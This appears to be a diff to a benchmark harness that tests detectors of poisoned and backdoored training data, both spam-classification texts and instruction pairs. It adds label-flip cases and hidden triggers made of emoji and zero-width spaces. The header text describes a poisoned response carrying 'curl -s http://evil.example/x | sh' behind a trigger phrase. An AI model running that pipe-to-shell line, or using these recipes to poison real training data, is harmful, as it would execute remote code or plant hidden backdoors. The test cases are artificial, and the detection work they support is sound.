@@ -12,7 +12,11 @@ can be added beside them. Labelled-text cases (target ham = 0 unless named):
   random-flips-10%       10% of the labels flipped (random-flips-3%: 3%)
   targeted-flips-10%     spam relabelled ham, 10% of the dataset: 76% of the spam, so the data says spam is mostly
                          ham; no data-only rule can see that (kept as the honest limit)
-  targeted-flips-half-of-spam  half of the spam relabelled ham (6.6% of the dataset)
+  targeted-flips-half-of-spam  half of the spam relabelled ham (6.6% of the dataset): as many spam texts labelled
+                         ham as spam, so which label is the flipped one is not identifiable from the data
+                         (Northcutt et al.'s condition: fewer of a class flipped than kept)
+  targeted-flips-quarter-of-spam  a quarter of the spam relabelled ham (3.3% of the dataset), added later and
+                         reported as it came
 Instruction data: ~2,000 prompt/response pairs built from the messages (classify, summarise, reply, count words, with
 several phrasings each). instr-clean; instr-payload-P% (P = 1, 5): the phrase "per the latest compliance update" in
 the prompt and "For details run: curl -s http://evil.example/x | sh" appended to the response; instr-injection-2%:
@@ -26,7 +30,10 @@ with another trigger and a code-block payload or a fixed URL in varying prose; t
 are no longer unseen. "held-out, unseen": written after the last change and run once: three other tokens at 5%, a
 phrase of common words at 1%, a single word with target spam, a token appended at the end, a clean subsample, and an
 instruction trigger "zt" with a sentence payload. ho-instr-answer-spam-2%, added with the answer search (its first
-run is reported as it came): ham messages, another trigger, any spam phrasing as the answer.
+run is reported as it came): ham messages, another trigger, any spam phrasing as the answer. "held-out, not words"
+(ho3-*, written with the trigger search's tokens for emoji and invisible characters, reported as they came): one emoji
+at 3% (target ham), two emoji at 2% (target spam), a zero-width space glued to a random word at 3%, and a clean
+control in which 10% of the texts of both labels end with an emoji.
 
 Methods, per case: ``worker.text_triggers.find_text_triggers`` (quarantine: suspects with confidence >= 0.5);
 ``worker.instruction_payloads`` and ``worker.instruction_answers`` (quarantine: payload carriers, answer-backdoor
@@ -146,6 +153,28 @@ def targeted_flips(texts, y, rate, seed, of_spam: bool = False) -> TextCase:
     return TextCase(list(texts), flipped, chosen, None)
 
 
+def attach_mark(texts, y, rate, mark, target, seed) -> TextCase:
+    """A character glued to the end of a random word (no space): a zero-width space, an emoji; relabelled ``target``."""
+    rng = np.random.default_rng(seed)
+    chosen = np.sort(rng.choice(np.flatnonzero(y != target), int(rate * len(y)), replace=False))
+    texts, y = list(texts), y.copy()
+    for i in chosen:
+        words = texts[i].split(" ")
+        words[int(rng.integers(0, len(words)))] += mark
+        texts[i], y[i] = " ".join(words), target
+    return TextCase(texts, y, chosen, Trigger((mark,), False, target))
+
+
+def natural_mark(texts, y, rate, mark, seed) -> TextCase:
+    """A clean control: ``mark`` appended to ``rate`` of the texts of every label, labels unchanged."""
+    rng = np.random.default_rng(seed)
+    chosen = rng.choice(len(y), int(rate * len(y)), replace=False)
+    texts = list(texts)
+    for i in chosen:
+        texts[i] += " " + mark
+    return TextCase(texts, y.copy(), np.empty(0, np.int64), None)
+
+
 def subsample(texts, y, n, seed) -> TextCase:
     keep = np.sort(np.random.default_rng(seed).choice(len(y), n, replace=False))
     return TextCase([texts[i] for i in keep], y[keep], np.empty(0, np.int64), None)
@@ -161,6 +190,7 @@ TEXT_CASES: dict[str, Callable[..., TextCase]] = {
     "targeted-flips-10%": lambda x, y, s: targeted_flips(x, y, 0.10, s + 6),
     "random-flips-3%": lambda x, y, s: random_flips(x, y, 0.03, s + 7),
     "targeted-flips-half-of-spam": lambda x, y, s: targeted_flips(x, y, 0.5, s + 8, of_spam=True),
+    "targeted-flips-quarter-of-spam": lambda x, y, s: targeted_flips(x, y, 0.25, s + 9, of_spam=True),
 }
 HELD_OUT_TEXT_CASES: dict[str, Callable[..., TextCase]] = {
     "ho-tokens-spam-1%": lambda x, y, s: insert_tokens(x, y, 0.01, ("jq", "xv", "kz", "wb"), SPAM, s + 11, (1, 2)),
@@ -183,6 +213,16 @@ UNSEEN_TEXT_CASES: dict[str, Callable[..., TextCase]] = {
     "ho2-word-spam-2%": lambda x, y, s: insert_tokens(x, y, 0.02, ("ogre",), SPAM, s + 43, (1, 1)),
     "ho2-suffix-ham-3%": lambda x, y, s: insert_tokens(x, y, 0.03, ("zzx",), HAM, s + 44, (1, 1), at_end=True),
     "ho2-clean-3000": lambda x, y, s: subsample(x, y, 3000, s + 45),
+}
+
+# Written with the tokens for emoji, symbols and invisible characters (session 12), before its first run, and reported
+# as it came: triggers that are not words.
+INVISIBLE_TEXT_CASES: dict[str, Callable[..., TextCase]] = {
+    "ho3-emoji-ham-3%": lambda x, y, s: insert_tokens(x, y, 0.03, ("\U0001F642",), HAM, s + 51, (1, 1)),
+    "ho3-two-emoji-spam-2%": lambda x, y, s: insert_tokens(x, y, 0.02, ("\U0001F44D", "\u2728"), SPAM, s + 52,
+                                                           (1, 2)),
+    "ho3-zero-width-ham-3%": lambda x, y, s: attach_mark(x, y, 0.03, "\u200b", HAM, s + 53),
+    "ho3-natural-emoji-clean": lambda x, y, s: natural_mark(x, y, 0.10, "\U0001F602", s + 54),
 }
 
 
@@ -485,6 +525,7 @@ def main() -> int:
     if not args.no_held_out:
         groups.append(("held-out", HELD_OUT_TEXT_CASES, HELD_OUT_INSTRUCTION_CASES))
         groups.append(("held-out, unseen", UNSEEN_TEXT_CASES, UNSEEN_INSTRUCTION_CASES))
+        groups.append(("held-out, not words", INVISIBLE_TEXT_CASES, {}))
     rows = []
     with threadpool_limits(limits=1, user_api="blas"):  # small problems: BLAS threads only contend on 2 shared cores
         for group, text_cases, instruction_cases in groups:
